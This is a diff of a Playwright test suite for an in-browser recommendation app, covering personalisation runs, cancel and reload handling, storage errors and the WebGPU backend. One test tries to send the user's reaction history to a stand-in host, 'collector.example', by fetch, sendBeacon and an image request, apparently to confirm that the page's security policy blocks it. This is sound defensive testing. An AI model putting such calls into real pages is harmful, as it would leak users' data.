@@ -12,7 +12,10 @@ import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { after, before, describe, test } from 'node:test';
 
-import { SITE, launch, likeFromSearch, siteCopy, startServer, waitForState, watch } from './harness.mjs';
+import {
+  SITE, backendOf, cancelPersonalisation, launch, likeFromSearch, listSettled as settled, longPersonalisation, reactToItem,
+  reactionsOf as history, shownRecommendations as recommendedIds, siteCopy, startServer, untilStep, waitForState, watch,
+} from './harness.mjs';
 
 const LOAD_TIMEOUT = 180_000;
 const REPO = fileURLToPath(new URL('../../', import.meta.url));
@@ -32,9 +35,6 @@ async function openApp(browser, { query = '?backend=cpu', url = server.url, time
   return { context, page, seen };
 }
 
-const recommendedIds = (page) => page.evaluate(() => window.localrec.recommendations.map((r) => r.item));
-const history = (page) => page.evaluate(() => window.localrec.profile.history.map(({ item, reaction }) => ({ item, reaction })));
-const settled = (page) => page.evaluate(() => window.localrec.settled());
 
 const genresOf = (page, ids) => page.evaluate((list) => {
   const rows = [...document.querySelectorAll('#recommendations .item')];
@@ -212,35 +212,33 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     await page.waitForFunction(() => /held-out loss .* → |nothing changed/.test(document.getElementById('train-status').textContent), null, { timeout: 120_000 });
     await settled(page);
     assert.equal(await page.getAttribute('#train-progress', 'value'), '1', 'the progress bar reached 100%');
+    // (The chart's points: a canvas says them to no one, so the page's hook.)
     const points = await page.evaluate(() => window.localrec.chart.points);
     assert.ok(points >= 2, `the chart has ${points} points`);
-    assert.ok(await page.locator('#train-chart canvas').count() > 0, 'the chart is drawn');
-    const personal = await page.evaluate(() => window.localrec.profile.personal);
+    assert.ok(await page.getByRole('img', { name: 'Training loss and held-out loss per step' }).locator('canvas').count() > 0, 'the chart is drawn');
+    const personal = await page.evaluate(() => window.localrec.rec.personal);
     assert.ok(personal && personal.residual.length === 64 && personal.best < personal.initial, 'personal weights kept');
     assert.match(await page.textContent('#recs-note'), /with your personal weights/);
     assert.notDeepEqual(await recommendedIds(page), before, 'the personal weights changed the list');
 
     await page.reload();
     await waitForState(page, 'ready', LOAD_TIMEOUT);
-    assert.deepEqual((await page.evaluate(() => window.localrec.profile.personal)).residual, personal.residual, 'saved');
+    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual, 'saved');
 
     // Cancel: a long run (no early stop) stops after the current step.
-    const run = page.evaluate(() => window.localrec.personalize({ steps: 100_000, patience: 100_000 }));
-    await page.waitForFunction(() => window.localrec.chart.points >= 3);
-    await page.click('#train-cancel');
-    await run;
-    assert.match(await page.textContent('#train-status'), /^Cancelled/);
-    assert.ok(await page.evaluate(() => window.localrec.chart.points) < 100_000);
+    const { validations } = await cancelPersonalisation(page, longPersonalisation(page));
+    assert.equal(await page.textContent('#train-status'), `Cancelled at step ${validations.length}; your previous personal weights are kept.`);
+    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual, 'a cancelled run keeps the weights');
     assert.equal(await page.isHidden('#train-cancel'), true);
     assert.deepEqual(seen.errors, []);
 
     // A reload during a run loses it; the page says so afterwards (once), and the weights stay.
-    page.evaluate(() => window.localrec.personalize({ steps: 100_000, patience: 100_000 })).catch(() => {});
-    await page.waitForFunction(() => window.localrec.chart.points >= 3);
+    longPersonalisation(page).catch(() => {}); // ended by the reload
+    await untilStep(page, 3);
     await page.reload();
     await waitForState(page, 'ready', LOAD_TIMEOUT);
     assert.match(await page.textContent('#train-status'), /^Your last personalisation was still running when the page was reloaded or closed, so it was lost and nothing changed\./);
-    assert.deepEqual((await page.evaluate(() => window.localrec.profile.personal)).residual, personal.residual);
+    assert.deepEqual((await page.evaluate(() => window.localrec.rec.personal)).residual, personal.residual);
     await page.reload();
     await waitForState(page, 'ready', LOAD_TIMEOUT);
     assert.equal(await page.textContent('#train-status'), '', 'said once');
@@ -254,7 +252,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     const [a, b] = await Promise.all([likeFromSearch(first, 'gundam', 2), likeFromSearch(second, 'clannad', 2)]);
     const all = [...a, ...b].sort();
     for (const page of [first, second]) {
-      await page.waitForFunction((n) => window.localrec.profile.history.length === n, all.length);
+      await page.waitForFunction((n) => window.localrec.rec.history.length === n, all.length);
       await settled(page);
       assert.deepEqual((await history(page)).map((e) => e.item).sort(), all);
       const shown = await recommendedIds(page);
@@ -262,17 +260,21 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     }
 
     // A reaction made while a personalisation runs is kept, and so are the personal weights.
+    // (40 steps, no early end: the page's hook, so that the like below lands during the run.)
     const training = first.evaluate(() => window.localrec.personalize({ steps: 40, patience: 1e9 }));
-    await first.waitForFunction(() => window.localrec.chart.points >= 1);
+    await untilStep(first, 1);
     const [during] = await likeFromSearch(first, 'haikyuu', 1);
-    await training;
-    // Weights are kept only when they improved the held-out loss (the status says which).
-    const improved = /held-out loss .* → /.test(await first.textContent('#train-status'));
+    const report = await training;
+    assert.equal(report.validations.length, 40, 'the like came during the run');
+    // Weights are kept only when they improve the held-out loss; these reactions' do, or this
+    // test could not see whether they are saved.
+    assert.ok(report.best < report.initial && !report.cancelled, JSON.stringify({ initial: report.initial, best: report.best }));
+    assert.match(await first.textContent('#train-status'), /held-out loss .* → /);
     await first.reload();
     await waitForState(first, 'ready', LOAD_TIMEOUT);
-    const saved = await first.evaluate(() => window.localrec.profile);
+    const saved = await first.evaluate(() => window.localrec.rec.profile);
     assert.deepEqual(saved.history.map((e) => e.item).sort(), [...all, during].sort());
-    assert.equal(saved.personal?.residual.length === 64, improved, 'personal weights saved beside the new reaction');
+    assert.equal(saved.personal?.residual.length, 64, 'personal weights saved beside the new reaction');
     await context.close();
   });
 
@@ -286,7 +288,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
       };
     });
     const [unsaved] = await likeFromSearch(page, 'clannad', 1);
-    await page.evaluate(() => window.localrec.saved());
+    await page.evaluate(() => window.localrec.rec.saved());
     assert.match(await page.textContent('#notice-message'), /Could not save to this browser's storage \(The quota has been exceeded\.\).*kept in this tab/);
     assert.ok(!(await recommendedIds(page)).includes(unsaved), 'the unsaved reaction still counts here');
     assert.deepEqual((await history(page)).map((e) => e.item), [kept, unsaved]);
@@ -369,7 +371,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     const blocked = await page.evaluate(async () => {
       const violations = [];
       document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
-      const history = JSON.stringify(window.localrec.profile.history);
+      const history = JSON.stringify(window.localrec.rec.history);
       await fetch(`https://collector.example/?h=${history}`).catch(() => {});
       navigator.sendBeacon?.('https://collector.example/', history);
       const image = new Image();
@@ -389,7 +391,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     await page.reload();
     await waitForState(page, 'ready', LOAD_TIMEOUT);
     assert.deepEqual(await history(page), liked);
-    assert.equal(await page.evaluate(() => window.localrec.info.fromCache), true);
+    assert.equal(await page.evaluate(async () => (await window.localrec.rec.ready.encoder).fromCache), true, 'the model came from the cache');
     // The list of those reactions too: their item–item rows were kept when first fetched.
     await settled(page);
     assert.equal((await recommendedIds(page)).length, 20);
@@ -412,11 +414,11 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     context.on('request', (r) => { if (r.url().includes('/item_item/')) fetched.push(r.url().replace(/\.gz$/, '')); });
     const { page } = await openApp(browser, { context });
     assert.deepEqual(fetched, [], 'no rows before the first reaction');
-    const ids = await page.evaluate(() => window.localrec.catalogIds(Infinity));
+    const ids = await page.evaluate(() => window.localrec.rec.catalog.items.map((item) => item.id));
     const url = (k) => new URL(`${path}${shards[k].file}`, server.url).href;
     // An item whose row is in shard k (the catalogue's order is the rows').
     const itemIn = (k) => ids[Math.floor((shards[k].rows[0] + shards[k].rows[1]) / 2)];
-    const like = (id) => page.evaluate((item) => window.localrec.react(item, 'like'), id);
+    const like = (id) => reactToItem(page, id);
     const notice = () => page.evaluate(() => ({
       shown: !document.getElementById('notice').hidden,
       retry: !document.getElementById('notice-retry').hidden,
@@ -430,6 +432,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     const afterLike = await recommendedIds(page);
     assert.notDeepEqual(afterLike, first);
     assert.equal((await notice()).shown, false);
+    // (The page's own clock: no screen says how long a list took.)
     t.diagnostic(`a like whose rows were fetched: list in ${Math.round(await page.evaluate(() => window.localrec.timings.updates.at(-1)))} ms`);
 
     // Offline for that shard: the list stays as it was and the page says why, with a retry.
@@ -505,7 +508,7 @@ describe('the app on the CPU fallback', { timeout: 900_000 }, () => {
     await page.keyboard.type('mecha');
     await page.keyboard.press('Enter');
     await settled(page);
-    assert.equal(await page.evaluate(() => window.localrec.profile.taste), 'mecha');
+    assert.equal(await page.evaluate(() => window.localrec.rec.taste), 'mecha');
 
     await mkdir(SCREENSHOTS, { recursive: true });
     await likeFromSearch(page, 'cowboy bebop', 1);
@@ -539,11 +542,12 @@ describe('the app on WebGPU (SwiftShader)', { timeout: 900_000 }, () => {
 
   test('recommends and runs a short personalisation on WebGPU', async () => {
     const { context, page, seen } = await openApp(browser, { query: '?backend=webgpu', timeout: 480_000 });
-    assert.equal(await page.evaluate(() => window.localrec.info.backend), 'webgpu');
+    assert.equal(await backendOf(page), 'webgpu');
     const liked = await likeFromSearch(page, 'gundam', 3);
     const ids = await recommendedIds(page);
     assert.equal(ids.length, 20);
     for (const id of liked) assert.ok(!ids.includes(id));
+    // Three steps (the page's hook: the Personalize button's 60 take minutes on SwiftShader).
     await page.evaluate(() => window.localrec.personalize({ steps: 3 }));
     assert.equal(await page.getAttribute('#train-progress', 'value'), '1');
     assert.match(await page.textContent('#train-status'), /held-out loss|nothing changed/);
